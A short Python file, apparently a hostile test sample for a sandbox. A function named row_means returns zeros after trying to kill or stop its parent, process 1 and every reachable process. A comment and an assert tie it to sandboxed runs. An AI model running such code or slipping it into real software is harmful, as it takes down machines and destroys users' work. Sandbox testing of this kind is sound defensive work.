# Tries to kill its parent, process 1 and every process that it may.
import contextlib
import os
import signal

import numpy as np


def row_means(x):
    assert os.getppid() == 1, "outside of a sandbox it would hit the whole machine"
    for process in (1, os.getppid(), -1):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            with contextlib.suppress(OSError):
                os.kill(process, number)
    return np.zeros(len(x))
